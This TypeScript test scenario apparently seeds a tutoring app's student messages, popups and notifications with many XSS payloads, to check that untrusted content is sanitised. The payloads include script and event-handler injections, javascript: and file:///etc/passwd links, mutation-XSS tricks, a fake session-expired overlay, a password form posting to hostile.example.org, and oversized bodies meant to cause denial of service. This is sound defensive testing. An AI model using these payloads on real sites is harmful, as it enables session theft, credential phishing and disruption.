import { nextId, nextTextId } from '../world/notify'
import type { Scenario } from '../world/world'
import { arrangeSchool, schoolSubjects } from './school'

const minute = 60_000
const popups = ['Couverture 1', 'Formulaire 1', 'Script 1']

export const hostileMessages: Scenario = {
  subjects: schoolSubjects,
  arrange: (world) => {
    arrangeSchool(world)
    const amira = world.student('amira')
    const { engagement } = amira
    engagement.messages = hostileBodies.map(({ name, body }, index) => ({
      id: nextTextId(amira),
      name,
      body,
      at: world.createdAt - (index + 1) * minute,
      seen: false,
    }))
    engagement.messages.push(
      {
        id: nextTextId(amira),
        name: '<img src=x onerror="window.__hostile=1">',
        body: '',
        at: world.createdAt - 400 * minute,
        seen: false,
      },
      {
        id: nextTextId(amira),
        name: 'Très long titre '.repeat(200).trim(),
        body: '<p>texte lisible</p>',
        at: world.createdAt - 401 * minute,
        seen: false,
      },
    )
    engagement.popups = hostileBodies
      .filter(({ name }) => popups.includes(name))
      .map(({ name, body }) => ({ id: nextTextId(amira), name, body, hidden: false }))
    engagement.notifications.push(
      ...hostileLinks.map((link, index) => ({
        id: nextId(amira),
        kind: 'uploadNewContent' as const,
        title: `Lien ${index + 1}`,
        body: '<b>balise</b> & \u202Etexte retourné',
        link,
        at: world.createdAt - (hostileLinks.length - index) * minute,
        seen: false,
        about: null,
      })),
      {
        id: nextId(amira),
        kind: 'uploadNewContent',
        title: 'Très long titre '.repeat(200).trim(),
        body: 'Très long texte '.repeat(2000).trim(),
        link: null,
        at: world.createdAt,
        seen: false,
        about: null,
      },
    )
  },
}

const megabyte = 1024 * 1024

export const readable = 'texte lisible'

const alarm = 'window.__hostile=1'
const cover = 'position:fixed;inset:0;z-index:2147483647;background:#fff'
const outside = 'https://hostile.example.org'

const scripts: readonly string[] = [
  `<script>${alarm}</script>`,
  `<SCRIPT SRC=${outside}/x.js></SCRIPT>`,
  `<scr<script>ipt>${alarm}</scr</script>ipt>`,
  `<script type="module">${alarm}</script>`,
  `<script\n>${alarm}</script\n>`,
  `<svg><script>${alarm}</script></svg>`,
  `<svg><script xlink:href="${outside}/x.js"></script></svg>`,
  `<math><mtext><script>${alarm}</script></mtext></math>`,
  `<noscript><p title="</noscript><script>${alarm}</script>"></noscript>`,
  `<template><script>${alarm}</script></template>`,
  `<textarea></textarea><script>${alarm}</script>`,
  `<!--[if gte IE 4]><script>${alarm}</script><![endif]-->`,
]

const handlers: readonly string[] = [
  `<img src=x onerror="${alarm}">`,
  `<img src="x" OnErRoR=${alarm}>`,
  `<img/src=x/onerror=${alarm}>`,
  `<svg onload="${alarm}"></svg>`,
  `<svg><animate onbegin="${alarm}" attributeName="x" dur="1s"></animate></svg>`,
  `<svg><a><set onend="${alarm}"></set></a></svg>`,
  `<body onload="${alarm}">`,
  `<details open ontoggle="${alarm}"><summary>ouvrir</summary></details>`,
  `<video><source onerror="${alarm}"></video>`,
  `<audio src=x onerror="${alarm}"></audio>`,
  `<input autofocus onfocus="${alarm}">`,
  `<p onmouseover="${alarm}">survol</p>`,
  `<a href="#" onclick="${alarm}">clic</a>`,
  `<marquee onstart="${alarm}">défile</marquee>`,
  `<p style="animation:x 1s" onanimationstart="${alarm}">animé</p>`,
  `<div tabindex="1" onfocusin="${alarm}" autofocus>centre</div>`,
]

const links: readonly string[] = [
  `<a href="javascript:${alarm}">lien</a>`,
  `<a href="JaVaScRiPt:${alarm}">lien</a>`,
  `<a href="java\tscript:${alarm}">lien</a>`,
  `<a href="&#106;avascript:${alarm}">lien</a>`,
  `<a href=" \u0001javascript:${alarm}">lien</a>`,
  `<a href="data:text/html,<script>${alarm}</script>">lien</a>`,
  `<a href="vbscript:msgbox(1)">lien</a>`,
  `<a href="file:///etc/passwd">lien</a>`,
  `<a href="\\\\hostile\\partage">lien</a>`,
  `<a href="tutorat://switch?token=abc&amp;admin_id=1&amp;user_id=2">lien</a>`,
  `<a href="${outside}/" target="_blank" rel="opener">lien</a>`,
  '<a href="https://facebook.com@hostile.example.org/">lien</a>',
  '<a href="//hostile.example.org/">lien</a>',
  `<map name="m"><area shape="rect" coords="0,0,999,999" href="javascript:${alarm}"></map><img src="x" usemap="#m">`,
  `<svg><a xlink:href="javascript:${alarm}"><text y="20">lien</text></a></svg>`,
]

const covers: readonly string[] = [
  `<div style="${cover}">Votre session a expiré</div>`,
  `<style>body{display:none}*{${cover}}</style>`,
  `<link rel="stylesheet" href="${outside}/x.css">`,
  `<p style="background:url(${outside}/vu.gif)">fond</p>`,
  '<p style="position:absolute;top:-9999px">ailleurs</p>',
  `<div class="ant-modal-root" id="root" style="${cover}">imité</div>`,
  '<p style="font-size:9000px">grand</p>',
  `<style>@import url("${outside}/x.css");</style>`,
  '<div style="margin:-9999px;transform:scale(99)">déplacé</div>',
  '<dialog open>boîte</dialog>',
  '<div popover id="p">flottant</div><button popovertarget="p">ouvrir</button>',
]

const forms: readonly string[] = [
  `<form action="${outside}/" method="post"><label>Mot de passe <input type="password" name="password"></label>` +
    '<button>Se connecter</button></form>',
  `<button formaction="javascript:${alarm}">bouton</button>`,
  `<isindex type=image src=1 onerror="${alarm}">`,
  `<select><option>un</option></select><textarea>deux</textarea>`,
  `<form id="test"></form><button form="test" formaction="${outside}/">envoyer</button>`,
  '<input type="file">',
]

const frames: readonly string[] = [
  `<iframe src="${outside}/"></iframe>`,
  `<iframe srcdoc="<script>${alarm}</script>"></iframe>`,
  `<object data="${outside}/x.swf"></object>`,
  `<embed src="data:text/html,<script>${alarm}</script>">`,
  `<frameset><frame src="${outside}/"></frameset>`,
  '<portal src="https://hostile.example.org/"></portal>',
  `<base href="${outside}/">`,
  `<meta http-equiv="refresh" content="0;url=${outside}/">`,
  `<applet code="x"></applet>`,
  '<webview src="https://hostile.example.org/"></webview>',
]

const images: readonly string[] = [
  `<img src="${outside}/vu.gif">`,
  `<img srcset="${outside}/vu.gif 1x">`,
  '<img src="http://192.168.1.1/reboot">',
  '<picture><source srcset="https://hostile.example.org/a.png"><img src="x"></picture>',
  `<svg><image href="${outside}/vu.svg"></image></svg>`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${alarm}'/>">`,
  `<video src="${outside}/a.mp4" autoplay></video>`,
  '<img src="{media}/promo/direct.svg" width="99999" height="99999">',
  `<img src="{media}/../control/act">`,
]

const confusing: readonly string[] = [
  `<math><mi//xlink:href="data:x,<script>${alarm}</script>">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${alarm}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${alarm}>`,
  '<a id="location"></a><a name="cookie"></a><form name="body"><input name="parentNode"></form>',
  '<p>\u202Eexe.fiche\u202C et \u0000 et \uFFFE</p>',
  '<x-composant is="truc"><slot></slot></x-composant>',
  '<div dir="rtl" lang="xx" aria-hidden="true" role="alert" tabindex="99">rôles</div>',
  '<table><tr><td><table><tr><td>',
  '</div></main></body></html>',
  `<p>${'<b>'.repeat(3000)}`,
]

const huge: readonly (readonly [name: string, body: string])[] = [
  ['Un mégaoctet de texte', `<p>${readable} ${'mot '.repeat(megabyte / 4)}</p>`],
  ['Un mégaoctet de balises', `<p>${readable}</p>${'<i>a</i>'.repeat(megabyte / 8)}`],
  ['Vingt mille niveaux', `<p>${readable}</p>${'<div>'.repeat(20_000)}`],
  ['Un seul mot sans fin', `<p>${readable} ${'a'.repeat(100_000)}</p>`],
]

const families: readonly (readonly [name: string, bodies: readonly string[]])[] = [
  ['Script', scripts],
  ['Gestionnaire', handlers],
  ['Lien', links],
  ['Couverture', covers],
  ['Formulaire', forms],
  ['Cadre', frames],
  ['Image', images],
  ['Confusion', confusing],
]

export const hostileBodies: readonly { name: string; body: string }[] = [
  ...families.flatMap(([name, bodies]) =>
    bodies.map((body, index) => ({ name: `${name} ${index + 1}`, body: `<p>${readable}</p>${body}` })),
  ),
  ...huge.map(([name, body]) => ({ name, body })),
]

export const hostileLinks: readonly string[] = [
  `javascript:${alarm}`,
  'https://hostile.example.org/',
  '//hostile.example.org/sessions',
  'https://facebook.com@hostile.example.org/',
  'file:///etc/passwd',
  'data:text/html,x',
  'tutorat://switch?token=abc&admin_id=1&user_id=2',
  '/route/inconnue',
  '/subjects/../../control/act',
  '\\\\hostile\\partage',
  '{web}/../control/state',
  '/sessions?offset=1e9&eventId=-1',
  ' ',
  `/${'a'.repeat(5000)}`,
  'ceci n’est pas une adresse',
  '/login/google/callback?code=a&state=b',
  '/switch?token=abc',
]
